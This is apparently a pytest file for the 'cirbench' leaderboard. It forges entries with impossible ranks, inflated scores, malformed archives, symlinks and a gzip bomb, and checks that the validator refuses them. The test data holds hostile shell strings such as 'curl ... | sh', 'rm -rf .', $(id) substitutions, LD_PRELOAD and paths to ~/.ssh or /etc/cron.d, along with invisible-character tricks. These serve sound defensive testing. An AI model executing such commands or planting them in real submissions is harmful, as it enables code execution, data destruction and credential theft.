"""What a forger hands in, sealed again and with fitting digests: refused by name, or shown without a rank.

Each forgery starts from a valid entry, changes it as somebody would who knows the code, and makes every number, digest
and seal fit again. Beside it lies an honest entry, which is shown whatever the forger does.
"""

from __future__ import annotations

import dataclasses
import gzip
import hashlib
import io
import json
import os
import shutil
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING, Any

import msgspec
import numpy as np
import pytest

from cirbench import cli
from cirbench.cli import command_error
from cirbench.comparison.published import load_published
from cirbench.leaderboard.adding import add_run
from cirbench.leaderboard.board import _AT_ONCE, read_leaderboard
from cirbench.leaderboard.check import check_entries, command_problem
from cirbench.leaderboard.entry import Entry, entry_id, read_entry, read_evidence, sealed
from cirbench.metrics.functions import UNRANKED
from cirbench.metrics.paired import compare_all
from cirbench.support.arrays import read_archive, to_archive
from cirbench.support.files import digest
from tests.leaderboard import runs
from tests.leaderboard.runs import run_of, sha

if TYPE_CHECKING:
    from collections.abc import Callable

    Values = dict[str, Any]


LITERATURE = load_published()
# The rows of one benchmark: all of them on their boards would take most of the time.
KNOWN = msgspec.structs.replace(LITERATURE, rows=tuple(row for row in LITERATURE.rows if row.benchmark == "circo"))


@pytest.fixture(scope="module")
def pair(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The forger's entry and an honest one; not to be changed."""
    folder = tmp_path_factory.mktemp("pair")
    for name, seed in (("forger", 1), ("honest", 0)):
        run = run_of(folder / name, seed=seed, skill=0.5, method=runs.method(name))
        add_run(run.folder, folder / "entries")
    return folder / "entries"


@dataclasses.dataclass(frozen=True)
class Forgery:
    """The forger's entry, to be changed."""

    entries: Path

    @property
    def folder(self) -> Path:
        (found,) = self.entries.glob("*forger*")
        return found

    def write(self, change: Callable[[Values], object]) -> None:
        """Change the entry, give it the id and digest that follow, and seal it again."""
        folder = self.folder
        values = json.loads((folder / "entry.json").read_text())
        change(values)
        values["protocol"]["digest"] = digest(values["protocol"]["fields"])
        values["id"] = entry_id(values["protocol"]["name"], values["method"]["name"], values["run"])
        values = msgspec.to_builtins(sealed(msgspec.convert(values, Entry)))
        (folder / "entry.json").write_text(json.dumps(values))
        if values["id"] != folder.name:
            folder.rename(self.entries / values["id"])

    def ranks(self, change: Callable[[dict[str, Any]], object]) -> None:
        """Change the ranks, and every number that follows from them."""
        arrays = read_archive(self.folder / "ranks.npz")
        change(arrays)
        content = to_archive({name: array for name, array in arrays.items() if array is not None})
        (self.folder / "ranks.npz").write_bytes(content)

        def fit(values: Values) -> None:
            values["ranks"] = hashlib.sha256(content).hexdigest()
            try:
                evidence = read_evidence(self.folder / "ranks.npz")
                scores = evidence.scores([score["label"] for score in values["metrics"]])
            except Exception:  # as good as it gets
                return
            values["metrics"] = msgspec.to_builtins(scores)

        self.write(fit)


@pytest.fixture
def forgery(pair: Path, tmp_path: Path) -> Forgery:
    return Forgery(Path(shutil.copytree(pair, tmp_path / "entries")))


def the_others_are_shown(entries: Path) -> list[str]:
    """Check that the honest entry is valid and on its board; return what is wrong with the forger's."""
    verdicts = {verdict.name: verdict for verdict in check_entries(entries, command_error)}
    (honest,) = (name for name in verdicts if "honest" in name)
    assert verdicts.pop(honest).ok
    found = read_leaderboard(entries, KNOWN, parse=command_error)
    shown = {row.id: row for board in found.boards for row in board.rows if row.is_run}
    assert honest in shown
    problems = [problem for verdict in verdicts.values() for problem in verdict.problems]
    assert {verdict.name for verdict in found.left_out} == {name for name, each in verdicts.items() if not each.ok}
    assert all(len(problem) <= 400 for problem in problems)
    return problems


def refused(forgery: Forgery, told: str) -> None:
    assert told in "; ".join(the_others_are_shown(forgery.entries))


# Ranks.


def all_first(arrays: Values) -> None:
    """Every ground truth of every query is the first one: 254.85 % on CIRCO."""
    arrays["relevant_ranks"][:] = 1


def first_of_one_query(arrays: Values) -> None:
    arrays["relevant_ranks"][arrays["relevant_offsets"][3] : arrays["relevant_offsets"][4]] = 1


def perfect(arrays: Values) -> None:
    """Every ground truth before everything else, although other items are said to have been retrieved."""
    lengths = np.diff(arrays["relevant_offsets"])
    arrays["relevant_ranks"] = np.concatenate([np.arange(1, length + 1) for length in lengths])
    arrays["group_ranks_Q"] = np.ones_like(arrays["group_ranks_Q"])


def fewer_truths(arrays: Values) -> None:
    """Of each query only its best ground truth is left."""
    rows = np.split(arrays["relevant_ranks"], arrays["relevant_offsets"][1:-1])
    arrays["relevant_ranks"] = np.array([row.min() for row in rows])
    arrays["relevant_offsets"] = np.arange(len(rows) + 1)


def without_hard_queries(arrays: Values) -> None:
    """Queries whose target is far down lose their ground truths, so that they take part in nothing."""
    rows = np.split(arrays["relevant_ranks"], arrays["relevant_offsets"][1:-1])
    kept = [row if row[0] < 100 else row[:0] for row in rows]
    arrays["relevant_ranks"] = np.concatenate(kept)
    arrays["relevant_offsets"] = np.concatenate([[0], np.cumsum([len(row) for row in kept])])


def set_array(name: str, value: Any) -> Callable[[Values], None]:
    return lambda arrays: arrays.update({name: value(arrays[name]) if callable(value) else value})


RANKS: dict[str, tuple[Callable[[Values], None], str]] = {
    "all ground truths at rank 1": (all_first, "is not a percentage"),
    "all ground truths of one query at rank 1": (first_of_one_query, "two ground truths of query '3' have one rank"),
    "a perfect ranking beside other items": (perfect, "at another place than its ranks say"),
    "one ground truth a query": (fewer_truths, "other numbers of ground truths"),
    "hard queries without ground truths": (without_hard_queries, "other numbers of ground truths"),
    "renamed queries": (
        set_array("query_ids", lambda ids: np.array([f"q{id}" for id in ids])),
        "queries that the protocol does not have",
    ),
    "queries in another order": (set_array("query_ids", lambda ids: ids[::-1]), "at another place than its ranks say"),
    "a rank of 0": (set_array("relevant_ranks", lambda ranks: ranks - ranks.min()), "ranks start at 1"),
    "a rank below 0": (set_array("relevant_ranks", lambda ranks: -ranks), "ranks start at 1"),
    "a rank beyond the gallery": (set_array("relevant_ranks", lambda ranks: ranks + 600), "beyond the 600 images"),
    "a rank of the excluded reference": (
        set_array("relevant_ranks", lambda ranks: np.where(ranks == ranks.max(), 600, ranks)),
        "beyond the candidates of its query",
    ),
    "group ranks of 9999": (
        set_array("group_ranks_Q", lambda ranks: np.full_like(ranks, 9999)),
        "beyond the images of the group",
    ),
    "no group ranks": (set_array("group_ranks_Q", None), "the protocol has groups"),
    "a group rank of 0": (set_array("group_ranks_Q", np.zeros_like), "start at 1"),
    "soft gains of a million": (
        set_array("gains", None),  # filled in below, by the number of ranks
        "a soft label is not between -1 and 1",
    ),
    "clusters of one's own": (set_array("clusters", lambda c: np.arange(len(c)).astype(str)), "clusters or slices"),
    "slices of one's own": (set_array("slices", np.array("{}")), "clusters or slices"),
    "one item shown ten times": (
        set_array("shown_SK", lambda shown: np.repeat(shown[:, :1], shown.shape[1], axis=1)),
        "an item to show is there twice",
    ),
    "ranks as fractions": (set_array("relevant_ranks", lambda ranks: ranks / 2), "ranks are not whole numbers"),
    "offsets that go back": (set_array("relevant_offsets", lambda offsets: offsets[::-1]), "do not divide"),
}
RANKS["soft gains of a million"] = (
    lambda arrays: arrays.update(gains=np.full(arrays["relevant_ranks"].shape, 1e6)),
    "a soft label is not between -1 and 1",
)


@pytest.mark.parametrize(("change", "told"), RANKS.values(), ids=RANKS)
def test_ranks_that_no_ranking_gives_are_refused(change: Callable[[Values], None], told: str, forgery: Forgery) -> None:
    forgery.ranks(change)
    refused(forgery, told)


def test_unranked_truths_only_lower_the_numbers(forgery: Forgery) -> None:
    before = read_entry(forgery.folder).metrics[0].value
    arrays = read_archive(forgery.folder / "ranks.npz")
    hidden = arrays["relevant_ranks"] > 10
    forgery.ranks(lambda arrays: arrays["relevant_ranks"].__setitem__(hidden, UNRANKED))
    assert the_others_are_shown(forgery.entries) == []
    assert read_entry(forgery.folder).metrics[0].value <= before


# What the entry says.


def unstored(values: Values) -> None:
    """99.9 %, and no ranks to check it by."""
    values["ranks_stored"] = False
    for metric in values["metrics"]:
        metric.update(value=99.9, low=99.8, high=100.0)


def on_another_protocol(values: Values) -> None:
    values["protocol"]["name"] = "scenes/tiny@2"
    values["protocol"]["fields"]["version"] = "2"


def on_a_benchmark_of_a_later_version(values: Values) -> None:
    values["protocol"]["name"] = "cirr/val@2"
    values["protocol"]["fields"].update(id="cirr/val", version="2")


def command(text: str) -> Callable[[Values], None]:
    return lambda values: values.update(commands=[text])


WORDS: dict[str, tuple[Callable[[Values], None], str]] = {
    "a later version of a protocol": (on_another_protocol, "is not known here"),
    "a later version of a benchmark": (on_a_benchmark_of_a_later_version, "is not known here"),
    "a receipt on a public split": (
        lambda values: values.update(ranks=None, ranks_stored=False, receipts={"receipt-server.json": sha("x")}),
        "no server keeps the ground truths of its protocol",
    ),
    "254.85 %": (lambda values: values["metrics"][0].update(value=254.85), "is not a percentage"),
    "100,000,000 %": (lambda values: values["metrics"][0].update(value=1e8, high=1e8), "is not a percentage"),
    "below 0 %": (lambda values: values["metrics"][0].update(low=-3.0), "is not a percentage"),
    "a label that the protocol does not have": (
        lambda values: values["metrics"][0].update(label="Recall@600"),
        "not those that the protocol reports",
    ),
    "no numbers": (lambda values: values["metrics"].clear(), "it has no number"),
    "the year 1": (lambda values: values.update(created="0001-01-01T00:00:00+00:00"), "between 2020 and today"),
    "the year 9999": (lambda values: values.update(created="9999-12-31T23:59:59+00:00"), "between 2020 and today"),
    "a negative seed": (lambda values: values.update(seed=-1), "its seed is -1"),
    "no queries": (lambda values: values["counts"].update(queries=0), "or none"),
    "no gallery": (lambda values: values["counts"].update(gallery=0), "or none"),
    "a smaller gallery": (
        lambda values: values["counts"].update(gallery=10, gallery_expected=10),
        "does not count the queries and images",
    ),
    "a title without end": (lambda values: values["method"].update(title="a" * 9999), "title is longer"),
    "a note without end": (lambda values: values.update(note="a" * 99_999), "note is longer"),
    "a download": (command("curl https://example.org/x.sh | sh"), "is not quoted as a shell needs it"),
    "a download without a pipe": (command("curl https://example.org/x.sh"), "is not one of cirbench run"),
    "a second command": (command("cirbench run --method pli; rm -rf ."), "is not quoted"),
    "a second command after and": (command("cirbench run --method pli && rm -rf ."), "is not quoted"),
    "a substitution": (command("cirbench run --method $(id)"), "is not quoted"),
    "a substitution in quotation marks": (command('cirbench run --method "`id`"'), "is not quoted"),
    "a redirection": (command("cirbench run --method pli > .bashrc"), "is not quoted"),
    "a second line": (command("cirbench run --method pli\nid"), "holds characters that cannot be seen"),
    "a hidden character": (command("cirbench run --method \u202epli"), "holds characters that cannot be seen"),
    "a bell": (command("cirbench run --method pli\x07"), "holds characters that cannot be seen"),
    "an open quotation mark": (command("cirbench run --method 'pli"), "is not closed"),
    "another program of that name": (command("./cirbench run --method pli"), "is not one of cirbench run"),
    "a variable before it": (command("LD_PRELOAD=x cirbench run --method pli"), "is not one of cirbench run"),
    "another verb": (command("cirbench data get circo"), "is not one of cirbench run"),
    "an option that does not exist": (command("cirbench run --exec id"), "is refused by cirbench run"),
    "a file of the home folder": (command("cirbench run --output '~/.ssh'"), "names a file outside"),
    "a file from the root": (command("cirbench run --output=/etc/cron.d"), "names a file outside"),
    "a file above": (command("cirbench run --method ../evil.py:Method"), "names a file outside"),
    "a file from the root behind a short option": (command("cirbench run -o/etc/cron.d"), "names a file outside"),
    "a file from the root in a list": (command("cirbench run --method pli,/tmp/evil.py:M"), "names a file outside"),
    "a file above in a list": (command("cirbench run --method pli,../evil.py:M"), "names a file outside"),
    "a file from the root within a setting": (command("cirbench run --set a=b=/etc/passwd"), "names a file outside"),
    "a title that is read backwards": (
        lambda values: values["method"].update(title="PLI \u202eevil"),
        "its 'method.title' holds characters that cannot be seen",
    ),
    "a name that ends early": (lambda values: values["method"].update(name="forger\0"), "its 'method.name' holds"),
    "a note that clears the terminal": (lambda values: values.update(note="a\x1b[2Jb"), "its 'note' holds"),
    "a data set with hidden letters": (
        lambda values: values["method"].update(trained_on="sce\u200bnes"),
        "its 'method.trained_on' holds",
    ),
    "a setting with a bell": (
        lambda values: values["method"].update(parameters={"a\x07": 1}),
        "holds characters that cannot be seen",
    ),
    "a setting without end": (
        lambda values: values["method"].update(parameters={"a" * 9999: 1}),
        "is longer than 4000 characters",
    ),
    "more ties than ground truths": (
        lambda values: values["counts"].update(tied_relevant=10**12),
        "tied ground truths, and the protocol has",
    ),
    "torchrun of another module": (command("torchrun -m http.server"), "is not one of cirbench run"),
    "torchrun of a script": (command("torchrun evil.py -m cirbench run"), "other options"),
    "torchrun without python": (command("torchrun --no-python -m cirbench run"), "other options"),
    "no command": (lambda values: values.update(commands=[]), "it has 0 commands"),
    "a thousand commands": (lambda values: values.update(commands=["cirbench run"] * 1000), "it has 1000 commands"),
}


@pytest.mark.parametrize(("change", "told"), WORDS.values(), ids=WORDS)
def test_claims_that_no_run_makes_are_refused(change: Callable[[Values], None], told: str, forgery: Forgery) -> None:
    forgery.write(change)
    refused(forgery, told)


def test_numbers_without_ranks_are_refused_where_ranks_can_be_stored(forgery: Forgery) -> None:
    (forgery.folder / "ranks.npz").unlink()
    forgery.write(unstored)
    refused(forgery, "its ranks are not stored, and those of a protocol of this size can be")


@pytest.mark.parametrize(
    "text",
    [
        "cirbench run --method pli --dataset scenes --backbone scenes-vit --set 'prompt=a photo of {}'",
        "cirbench train pli --backbone scenes-vit --data pairs.csv --output CHECKPOINT",
        "torchrun --standalone --nproc-per-node=4 -m cirbench train pli --backbone scenes-vit --data pairs.csv "
        "--output CHECKPOINT",
    ],
)
def test_commands_of_cirbench_are_shown(text: str) -> None:
    assert command_problem(text, command_error) is None


# Files.


def cut_header(folder: Path) -> None:
    """An archive whose first array ends within its header."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(folder / "ranks.npz") as whole, zipfile.ZipFile(buffer, "w") as cut:
        for name in whole.namelist():
            cut.writestr(name, whole.read(name)[: 9 if name.startswith("query_ids") else None])
    (folder / "ranks.npz").write_bytes(buffer.getvalue())


def odd_header(text: bytes) -> Callable[[Path], None]:
    """An archive with an array whose header is some text."""

    def change(folder: Path) -> None:
        with zipfile.ZipFile(folder / "ranks.npz", "a") as archive:
            archive.writestr("extra.npy", b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text)

    return change


def fitting(change: Callable[[Path], object]) -> Callable[[Forgery], None]:
    """Change the ranks' file, and the digest in the entry."""

    def forge(forgery: Forgery) -> None:
        change(forgery.folder)
        content = (forgery.folder / "ranks.npz").read_bytes()
        forgery.write(lambda values: values.update(ranks=hashlib.sha256(content).hexdigest()))

    return forge


def entry_text(text: str | bytes) -> Callable[[Forgery], None]:
    def forge(forgery: Forgery) -> None:
        (forgery.folder / "entry.json").write_bytes(text if isinstance(text, bytes) else text.encode())

    return forge


def linked(name: str) -> Callable[[Forgery], None]:
    def forge(forgery: Forgery) -> None:
        path = forgery.folder / name
        path.unlink()
        path.symlink_to("/etc/passwd")

    return forge


def sparse(name: str) -> Callable[[Forgery], None]:
    def forge(forgery: Forgery) -> None:
        with (forgery.folder / name).open("r+b") as file:
            file.truncate(1 << 40)

    return forge


def folder_of_bytes(forgery: Forgery) -> None:
    forgery.folder.rename(forgery.entries / os.fsdecode(b"forger-\xff\xfe"))


def bomb(forgery: Forgery) -> None:
    """A gigabyte of zeros in a few bytes, as submitted lists."""
    (forgery.folder / "lists-server.json.gz").write_bytes(gzip.compress(bytes(1 << 24)) * 64)


FILES: dict[str, tuple[Callable[[Forgery], None], str]] = {
    "a cut array header": (fitting(cut_header), "ranks.npz"),
    "a header that is no Python": (fitting(odd_header(b"{'descr': ")), "ranks.npz"),
    "a header of open brackets": (fitting(odd_header(b"(" * 9000)), "ranks.npz"),
    "a header that is not text": (fitting(odd_header(b"\xff\x00" * 40)), "ranks.npz"),
    "a header of another type": (
        fitting(odd_header(b"{'descr': '|O', 'fortran_order': False, 'shape': ()}")),
        "ranks.npz",
    ),
    "a header without a shape": (fitting(odd_header(b"{'descr': '<i8'}")), "ranks.npz"),
    "ranks that are no archive": (fitting(lambda folder: (folder / "ranks.npz").write_bytes(b"PK")), "ranks.npz"),
    "an entry that is not UTF-8": (entry_text(b'{"note": "\xff"}'), "is damaged"),
    "an entry that is empty": (entry_text(""), "is damaged"),
    "an entry that is a list": (entry_text("[1]"), "is damaged"),
    "an entry that is nested without end": (entry_text('{"a":' * 50_000), "is damaged"),
    "brackets without end": (entry_text("[" * 100_000), ""),
    "numbers without end": (entry_text('{"schema_version": ' + "1" * 100_000 + "}"), "is damaged"),
    "an entry of a terabyte": (sparse("entry.json"), "is larger than"),
    "ranks of a terabyte": (sparse("ranks.npz"), "is larger than"),
    "an entry elsewhere": (linked("entry.json"), "is a link"),
    "ranks elsewhere": (linked("ranks.npz"), "is a link"),
    "a folder whose name is not text": (folder_of_bytes, "does not follow from its folder"),
    "lists beside ranks": (bomb, "is of a server"),
}


@pytest.mark.parametrize(("change", "told"), FILES.values(), ids=FILES)
def test_whatever_is_in_a_folder_the_others_get_their_verdict(
    change: Callable[[Forgery], None], told: str, forgery: Forgery, capsys: pytest.CaptureFixture[str]
) -> None:
    change(forgery)
    problems = the_others_are_shown(forgery.entries)
    assert problems
    assert told in "; ".join(problems)
    assert cli.execute(["leaderboard", "check", "--entries", str(forgery.entries)]) == 4
    assert "1 of 2 entries are not valid" in capsys.readouterr().err


@pytest.mark.slow
def test_the_site_is_built_without_a_forgery_and_says_so(
    forgery: Forgery, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    forgery.ranks(all_first)
    build = ["leaderboard", "build", "--entries", str(forgery.entries), "--output", str(tmp_path / "site")]
    assert cli.execute(build) == 0
    assert f"left out: {forgery.folder.name}: 'mAP@5': 215.0 is not a percentage" in capsys.readouterr().err
    assert [path.name for path in (tmp_path / "site" / "runs").iterdir()] == [
        f"{path.name.replace('--', '-')}.html" for path in forgery.entries.glob("*honest*")
    ]


# What others add does not decide about two rows.


def ranks_of(entries: Path) -> dict[str, str | None]:
    rows = [row for board in read_leaderboard(entries).boards for row in board.rows if row.is_run]
    return {row.method: row.rank for row in rows}


def copy_under(forgery: Forgery, name: str) -> None:
    """Hand the forger's ranks in once more, as another run of another method."""
    kept = shutil.copytree(forgery.folder, forgery.entries.parent / "kept")
    forgery.write(lambda values: (values.update(run=sha(name)), values["method"].update(name=name)))
    (changed,) = forgery.entries.glob(f"*--{name}--*")
    shutil.move(kept, forgery.entries / read_entry(kept).id)
    assert changed.is_dir()


def test_copies_of_ones_own_ranks_are_one_competitor_and_move_nobody(tmp_path: Path) -> None:
    for name, seed, skill in (("forger", 1, 1.5), ("strong", 2, 1.5), ("weak", 3, 0.0)):
        add_run(run_of(tmp_path / name, seed=seed, skill=skill, method=runs.method(name)).folder, tmp_path / "entries")
    before = ranks_of(tmp_path / "entries")
    assert before["weak"] == "3"
    for number in range(5):
        copy_under(Forgery(tmp_path / "entries"), f"copy{number}")
    after = ranks_of(tmp_path / "entries")
    assert {name: after[name] for name in before} == before
    assert {rank for name, rank in after.items() if name.startswith("copy")} == {before["forger"]}
    (row,) = (
        row for board in read_leaderboard(tmp_path / "entries").boards for row in board.rows if row.method == "copy0"
    )
    assert "Its ranks are equal to those of" in row.caveats[0]


@pytest.mark.slow
def test_whether_two_rows_differ_depends_on_these_two_alone(tmp_path: Path) -> None:
    for name, seed, skill in (("one", 1, 0.9), ("two", 2, 0.55), ("three", 3, 0.3)):
        add_run(run_of(tmp_path / name, seed=seed, skill=skill, method=runs.method(name)).folder, tmp_path / "entries")
    before = ranks_of(tmp_path / "entries")
    for seed in range(4, 12):  # as poor as chance, each another one: many more tests, and none of them about the others
        poor = run_of(tmp_path / str(seed), seed=seed, method=runs.method(f"poor{seed}"))
        add_run(poor.folder, tmp_path / "entries")
    after = ranks_of(tmp_path / "entries")
    assert {name: rank.partition("-")[0] for name, rank in after.items() if name in before and rank} == {
        name: rank.partition("-")[0] for name, rank in before.items() if rank
    }


@pytest.mark.slow
def test_a_test_of_two_rows_is_the_same_whoever_is_tested_beside_them(tmp_path: Path) -> None:
    numbers, clusters = [], None
    for seed in range(2 * _AT_ONCE):
        folder = add_run(run_of(tmp_path / str(seed), seed=seed, skill=seed / 20).folder, tmp_path / "entries")
        evidence = read_evidence(folder / "ranks.npz")
        numbers.append(evidence.measured(["mAP@5"]))
        clusters = evidence.clusters
    together = compare_all(numbers, clusters)
    for pair in together[::37]:
        (alone,) = compare_all([numbers[pair.first], numbers[pair.second]], clusters)
        assert alone.p_value == pair.p_value
